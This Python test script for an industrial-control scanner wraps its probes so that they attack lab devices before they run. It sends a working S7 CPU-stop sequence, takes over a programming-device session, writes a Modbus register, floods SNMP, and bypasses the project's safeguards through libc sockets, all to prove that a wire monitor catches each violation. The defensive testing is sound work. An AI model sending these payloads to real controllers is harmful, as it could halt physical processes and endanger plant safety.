"""
Walkdown with unsafe probes: the real command, but two of its probes misbehave before they ask.

    python3 tests/prove.py --walkdown tests/proof/unsafe/main.py --only 1-11,13,17

The proof has to fail on every promise that this breaks, by name. They open their sockets through
libc, so that neither the door nor the tripwire beneath it sees them: what is proved is that the
judge of the wire does. An S7 controller is stopped, and a programming device's seat taken (promises
1, 11); towards every device that is asked for Modbus the other

    writes a register, asks for a fourth identification   promises 1, 13
    holds three connections at once, in a row             promises 2, 3, 8
    sends 300 datagrams in a row                          promises 3 to 6
    sends a page request and a printer's to its ports     promise 7
    connects and leaves without a word                    promise 8
    sends a frame whose length does not fit               promise 9
    ends connections with a reset                         promise 10
    sweeps unit ids, connects to IEC 104                  promise 11
    asks a name server                                    promise 17

Never run it against anything but the proving ground: it refuses addresses outside 10.76.0.0/14.
"""

from __future__ import annotations

import asyncio
import ctypes
import socket
import struct
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import replace
from ipaddress import IPv4Address, IPv4Network
from pathlib import Path

ROOT = Path(__file__).resolve().parents[3]
sys.path.insert(0, str(ROOT))

from scanner import discovery  # noqa: E402
from scanner.facts import Fact  # noqa: E402
from scanner.spec import Probe, Session  # noqa: E402

LIBC = ctypes.CDLL(None, use_errno=True)  # opened before anything is armed
GROUND = IPv4Network("10.76.0.0/14")
WRITE = bytes.fromhex("000100000006ff0600010003")
IDENTIFY = bytes.fromhex("000100000005ff2b0e0100")
CUT = bytes.fromhex("000100000002ff2b")
CONNECT = bytes.fromhex("0300001611e00000000100c1020100c2020302c0010a")
SETUP = bytes.fromhex("0300001902f08032010000000100080000f0000001000101e0")
STOP = bytes.fromhex("0300002102f0803201000000020010000029000000000009505f50524f4752414d")
SEAT = bytes.fromhex("0300001611e00000000100c1020100c2020102c0010a")
PAGE = b"GET / HTTP/1.1\r\nHost: 10.77.1.1\r\n\r\n"
GET = bytes.fromhex(
    "302602010104067075626c6963a019020101020100020100300e300c06082b060102010101000500"
)
DATAGRAMS = 300
OUTSIDE = "10.99.0.53"
"""In no scope; the ground's router lets it vanish."""


def _place(address: str, port: int) -> ctypes.Array[ctypes.c_char]:
    packed = struct.pack("=H", socket.AF_INET) + struct.pack("!H", port)
    return ctypes.create_string_buffer(packed + socket.inet_aton(address) + bytes(8), 16)


class Raw:
    """A socket of libc. `call` fails in silence: some devices answer nothing at all."""

    def __init__(self, address: str, port: int, *, datagram: bool = False) -> None:
        if address != OUTSIDE and IPv4Address(address) not in GROUND:
            raise SystemExit("the unsafe probe is for the proving ground alone")
        kind = socket.SOCK_DGRAM if datagram else socket.SOCK_STREAM
        self._fd = LIBC.socket(socket.AF_INET, kind, 0)
        # Neither a connect nor an answer is waited for longer than half a second.
        wait = struct.pack("ll", 0, 500_000)
        for option in (20, 21):  # SO_RCVTIMEO, SO_SNDTIMEO of Linux
            LIBC.setsockopt(self._fd, socket.SOL_SOCKET, option, wait, len(wait))
        self._to = _place(address, port)
        if not datagram:
            LIBC.connect(self._fd, self._to, 16)

    def send(self, data: bytes) -> None:
        # MSG_NOSIGNAL: the device may have reset
        LIBC.sendto(self._fd, data, len(data), 0x4000, self._to, 16)

    def receive(self) -> None:
        LIBC.recv(self._fd, ctypes.create_string_buffer(512), 512, 0)

    def close(self, *, reset: bool = False) -> None:
        if reset:
            now = struct.pack("ii", 1, 0)
            LIBC.setsockopt(self._fd, socket.SOL_SOCKET, socket.SO_LINGER, now, len(now))
        LIBC.close(self._fd)


def _talk(address: str, port: int, *requests: bytes, reset: bool = False) -> None:
    one = Raw(address, port)
    for request in requests:
        one.send(request)
        one.receive()
    one.close(reset=reset)


def misbehave(address: str, port: int) -> None:
    """Everything in the table above, once."""
    three = [Raw(address, port) for _ in range(3)]
    for one in three:
        one.send(IDENTIFY)
        one.receive()
    time.sleep(0.05)
    for one in three:
        one.close()
    _talk(address, port, WRITE)
    _talk(address, port, IDENTIFY, IDENTIFY, IDENTIFY, IDENTIFY)
    _talk(address, port, PAGE)
    _talk(address, 9100, b"hello\r\n")
    _talk(address, port)
    _talk(address, port, CUT)
    _talk(address, port, IDENTIFY, reset=True)
    _talk(address, port, *(b"\0\1\0\0\0\5" + bytes([unit]) + IDENTIFY[7:] for unit in range(1, 7)))
    _talk(address, 2404)
    burst = Raw(address, 161, datagram=True)
    for _ in range(DATAGRAMS):
        burst.send(GET)
    burst.close()
    name = Raw(OUTSIDE, 53, datagram=True)
    name.send(bytes.fromhex("00010100000100000000000004746573740000010001"))
    name.close()


def stop_the_controller(address: str, port: int) -> None:
    _talk(address, port, CONNECT, SETUP, STOP)
    _talk(address, port, SEAT)


DEEDS = {"modbus": misbehave, "s7": stop_the_controller}


def unsafe(probe: Probe) -> Probe:
    """The probe, with the table's deeds before its first question."""
    before: Callable[[Session], object] = probe.run

    async def run(session: Session) -> tuple[Fact, ...]:
        with suppress(OSError):
            await asyncio.to_thread(DEEDS[probe.name], session.target.address, session.target.port)
        facts: tuple[Fact, ...] = await before(session)  # type: ignore[misc]
        return facts

    return replace(probe, run=run)


def main() -> None:
    found = discovery.probes()
    changed = tuple(
        unsafe(probe) if probe.name in DEEDS and probe.tier == "identify" else probe
        for probe in found
    )
    discovery.probes = lambda: changed  # type: ignore[assignment]
    from scanner.cli import main as walkdown

    walkdown()


if __name__ == "__main__":
    main()
